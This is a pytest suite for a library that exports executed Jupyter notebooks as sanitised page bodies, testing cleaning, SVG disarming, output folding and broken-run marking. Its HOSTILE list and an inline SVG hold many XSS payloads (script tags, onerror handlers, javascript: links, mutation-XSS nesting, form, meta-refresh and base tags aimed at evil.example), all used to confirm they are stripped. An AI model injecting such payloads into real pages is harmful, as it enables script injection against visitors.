"""An executed notebook as the body of a page: what shows, what is cleaned, what broke."""

from __future__ import annotations

import base64
import json
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import nbformat
import published
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

from oaflib.run.clean import cleaned, escaped
from oaflib.run.page import export_body
from oaflib.run.svg import safe_svg

PLOTLY = "application/vnd.plotly.v1+json"


def exported(tmp_path: Path, *outputs: Any, source: str = "x", **more: Any) -> Any:
    cell = new_code_cell(source, execution_count=1, outputs=list(outputs))
    return export_body(published.notebook(tmp_path / "n.ipynb", [cell]), **more)


def test_the_ordinary_notebook(tmp_path: Path) -> None:
    body = published.body(tmp_path)
    assert "<strong>as logged</strong>" in body.html
    assert '<img src="figures/2-0.png" alt="Figure: Intensities"' in body.html
    assert 'width="946" height="330"' in body.html
    assert body.figures["2-0.png"].startswith(b"\x89PNG")
    assert "<td>1.031</td>" in body.html
    assert "<style" not in body.html
    assert "scrapbook" not in body.html
    assert "conclude" not in body.html
    assert "conclude" in body.code
    assert body.notebook == tmp_path / "made.ipynb"


def test_titles_keep_their_rank(tmp_path: Path) -> None:
    cells = [new_markdown_cell("# Title\n\n| a | b |\n|--|--|\n| 1 | 2 |\n\n`code`")]
    body = export_body(published.notebook(tmp_path / "n.ipynb", cells))
    assert re.search(r"<h1[^>]*>Title</h1>", body.html)
    assert "<td>1</td>" in body.html
    assert "<code>code</code>" in body.html


class Met(HTMLParser):
    """Every element and attribute met."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += attrs


def met(markup: str) -> Met:
    parser = Met()
    parser.feed(markup)
    parser.close()
    return parser


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="http://evil.example/x.png">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    '<form action="http://evil.example"><input name=x><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=http://evil.example">',
    '<base href="http://evil.example/">',
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    "<style>@import 'http://evil.example/x.css';</style>",
    '<p style="background:url(http://evil.example/x)">x</p>',
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    '<video src="http://evil.example/x" onerror=alert(1)></video>',
    "<!--nav--><script>alert(1)</script><!--/nav--><!--oaf:code-->",
    "</main></body><script>alert(1)</script>",
    "<details ontoggle=alert(1) open>x</details>",
    '<td background="http://evil.example/x">',
]


def harmless(markup: str) -> None:
    found = met(markup)
    allowed_script = re.sub(r'<script type="application/json">[^<]*</script>', "", markup)
    assert "<script" not in allowed_script.lower()
    assert not found.tags & {
        "style", "iframe", "object", "embed", "form", "input", "button", "meta", "base", "link",
        "svg", "math", "video", "audio", "template", "noscript", "main", "body",
    }  # fmt: skip
    for name, value in found.attributes:
        assert not name.startswith("on"), (name, value)
        assert name not in ("style", "srcdoc", "background", "action"), (name, value)
        if name == "src":
            assert re.fullmatch(r"figures/[\w.-]+|", value or ""), value
        if name == "href":
            assert re.match(r"https?://|mailto:|#", value or ""), value
    assert "<!--" not in markup


@pytest.mark.parametrize("payload", HOSTILE)
@pytest.mark.parametrize(
    "way", ["text/html", "markdown", "text/plain", "stream", "error", "source", "text/latex"]
)
def test_nothing_hostile_passes(tmp_path: Path, payload: str, way: str) -> None:
    if way == "markdown":
        cells = [new_markdown_cell(payload), new_markdown_cell(f"# {payload}\n\n> {payload}")]
        body = export_body(published.notebook(tmp_path / "n.ipynb", cells))
    elif way == "stream":
        body = exported(tmp_path, new_output("stream", text=payload))
    elif way == "error":
        body = exported(
            tmp_path, new_output("error", ename=payload, evalue=payload, traceback=[payload])
        )
    elif way == "source":
        body = exported(tmp_path, source=payload)
    else:
        body = exported(tmp_path, published.shown({way: payload}))
    harmless(body.html)
    harmless(body.code)


@pytest.mark.parametrize(
    "kind",
    [
        "application/javascript",
        "text/vnd.mermaid",
        "application/vnd.jupyter.widget-view+json",
        "application/scrapbook.scrap.json+json",
    ],
)
def test_what_runs_elsewhere_is_not_shown(tmp_path: Path, kind: str) -> None:
    body = exported(tmp_path, published.shown({kind: "alert(1)", "text/plain": "Widget()"}))
    assert body.html == ""


def test_a_picture_that_is_none_falls_back_to_its_text(tmp_path: Path) -> None:
    fake = base64.b64encode(b"<script>alert(1)</script>").decode()
    body = exported(tmp_path, published.shown({"image/png": fake, "text/plain": "a figure"}))
    assert body.figures == {}
    assert "<pre>a figure</pre>" in body.html


def test_pictures_inside_html_become_files(tmp_path: Path) -> None:
    data = base64.b64encode(published.picture()).decode()
    html = f'<figure><img alt="a > b" src="data:image/png;base64,{data}"></figure>'
    body = exported(tmp_path, published.shown({"text/html": html}))
    assert [name for name in body.figures if f'src="figures/{name}"' in body.html]
    assert "base64" not in body.html


def test_a_real_svg_stays_and_a_hostile_one_is_disarmed(tmp_path: Path) -> None:
    drawing = published.picture("svg").decode()
    body = exported(tmp_path, published.shown({"image/svg+xml": drawing}))
    (kept,) = body.figures.values()
    assert kept.count(b"<path") > 10
    assert b"<metadata" not in kept
    hostile = (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        'onload="alert(1)"><script>alert(1)</script><foreignObject><p/></foreignObject>'
        '<style>@import "http://evil.example/x";</style><a xlink:href="javascript:alert(1)"/>'
        '<image href="http://evil.example/x.png"/><use href="http://evil.example/x#a"/>'
        '<set attributeName="href" to="javascript:alert(1)"/>'
        '<rect style="fill:url(http://evil.example/x)" fill="url(#fine)" width="3"/></svg>'
    )
    safe = safe_svg(hostile)
    assert safe is not None
    assert b"evil" not in safe
    assert b"alert" not in safe
    assert b"script" not in safe
    assert b'fill="url(#fine)"' in safe


@pytest.mark.parametrize(
    "text",
    ["", "<html/>", "<svg/>", "<svg", '<!DOCTYPE svg [<!ENTITY a "b">]><svg xmlns="x">&a;</svg>'],
)
def test_what_is_no_drawing_is_refused(text: str) -> None:
    assert safe_svg(text) is None


def test_a_deep_drawing_does_not_break(tmp_path: Path) -> None:
    deep = "<g>" * 5_000 + "<script/>" + "</g>" * 5_000
    safe = safe_svg(f'<svg xmlns="http://www.w3.org/2000/svg">{deep}</svg>')
    assert safe is None or b"script" not in safe


def test_an_oaf_picture_has_its_caption_and_words(tmp_path: Path) -> None:
    about = {"title": "t", "caption": "Limits < dashed", "alt": 'rises to "9"', "width": 720,
             "height": 300}  # fmt: skip
    body = exported(
        tmp_path,
        published.shown(
            {
                "image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>',
                "application/vnd.oaf.picture+json": about,
                "text/plain": "<picture>",
            }
        ),
    )
    assert 'alt="rises to &quot;9&quot;"' in body.html
    assert "<figcaption>Limits &lt; dashed</figcaption>" in body.html
    assert 'width="720" height="300"' in body.html


def test_plotly_is_data_and_words(tmp_path: Path) -> None:
    figure = {
        "data": [{"type": "scatter", "name": "</script><script>alert(1)</script>", "y": [1, 2, 3]}],
        "layout": {"title": {"text": "<!--<script>"}},
    }
    body = exported(tmp_path, published.shown({PLOTLY: figure, "text/html": "<p>other</p>"}))
    assert body.interactive
    harmless(body.html)
    (data,) = re.findall(r'<script type="application/json">(.*?)</script>', body.html, re.DOTALL)
    assert json.loads(data)["data"] == figure["data"]
    assert "<td>3</td>" in body.html
    assert "other" not in body.html


def test_endless_output_is_folded(tmp_path: Path) -> None:
    text = "".join(f"line {number}\n" for number in range(200_000)) + "\x1b[31mred\x1b[0m\n"
    body = exported(tmp_path, new_output("stream", text=text))
    assert len(body.html) < 20_000
    assert "lines left out" in body.html
    assert "red" in body.html
    assert "\x1b" not in body.html
    progress = "".join(f"\r{number} %" for number in range(101))
    assert "<pre>100 %</pre>" in exported(tmp_path, new_output("stream", text=progress)).html


def test_a_page_does_not_grow_without_end(tmp_path: Path) -> None:
    big = published.shown({"text/html": "<p>" + "word " * 150_000 + "</p>"})
    body = exported(tmp_path, *[big] * 30)
    assert len(body.html) < 11_000_000
    assert "The notebook has it." in body.html


def test_a_broken_run_shows_how_far_it_came(tmp_path: Path) -> None:
    error = new_output(
        "error", ename="KeyError", evalue="'X'", traceback=["\x1b[0;31mKeyError\x1b[0m: 'X<b>'"]
    )
    cells = [
        new_code_cell("first()", execution_count=1, outputs=[new_output("stream", text="done")]),
        new_code_cell("second()", execution_count=2, outputs=[error]),
        new_code_cell("third()"),
    ]
    body = export_body(published.notebook(tmp_path / "n.ipynb", cells), finished=False)
    order = [body.html.index(text) for text in
             ("done", "The run stopped in this cell.", "KeyError: &#x27;X&lt;b&gt;&#x27;",
              "This cell did not run.")]  # fmt: skip
    assert order == sorted(order)
    assert body.html.count("did not run") == 1


def test_the_marks_that_the_runner_leaves_in_a_notebook_are_not_on_the_page(tmp_path: Path) -> None:
    mark = new_markdown_cell("An Exception was encountered at 'In [3]'.")
    mark.metadata["tags"] = ["papermill-error-cell-tag"]
    cells = [mark, new_markdown_cell("## Mine"), new_code_cell("a", execution_count=1)]
    body = export_body(published.notebook(tmp_path / "n.ipynb", cells), finished=False)
    assert "Exception" not in body.html
    assert "Mine" in body.html


def test_a_killed_kernel_leaves_no_error_but_the_last_cell_is_marked(tmp_path: Path) -> None:
    cells = [new_code_cell("a", execution_count=1), new_code_cell("b", execution_count=2),
             new_code_cell("c")]  # fmt: skip
    for cell in cells:
        cell.metadata["papermill"] = {"status": "completed"}  # a lie: seen
    body = export_body(published.notebook(tmp_path / "n.ipynb", cells), finished=False)
    assert body.html.count("stopped in this cell") == 1
    assert body.html.count("did not run") == 1


@pytest.mark.parametrize("content", ["", "{", '{"cells": 3}', "\x00\xff", '{"nbformat": 99}'])
def test_what_is_no_notebook_gives_a_page_that_says_so(tmp_path: Path, content: str) -> None:
    path = tmp_path / "n.ipynb"
    path.write_text(content)
    body = export_body(path)
    assert "cannot be read" in body.html
    assert body.notebook == path
    assert "no notebook" in export_body(tmp_path / "absent.ipynb").html


def test_an_expert_adds_figures_of_its_own(tmp_path: Path) -> None:
    path = published.notebook(tmp_path / "n.ipynb")
    both = export_body(path).with_expert(export_body(path, prefix="expert-"))
    assert set(both.figures) == {"2-0.png", "expert-2-0.png"}
    assert 'src="figures/expert-2-0.png"' in both.expert
    with pytest.raises(ValueError, match="two figures are called '2-0.png'"):
        export_body(path).with_expert(export_body(path))


def test_ids_of_a_notebook_take_no_anchor_of_the_page() -> None:
    assert cleaned('<a href="#main" id="main">x</a>') == (
        '<a href="#nb-main" id="nb-main" rel="noopener noreferrer">x</a>'
    )


def test_direction_marks_are_made_visible() -> None:
    assert escaped("a\u202eb\x00<") == "a\ufffdb\ufffd&lt;"


def test_exporting_says_nothing(tmp_path: Path) -> None:
    node = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("1")])
    del node.cells[0]["id"]  # as older programs write them
    path = tmp_path / "n.ipynb"
    path.write_text(json.dumps(node))
    export_body(path)
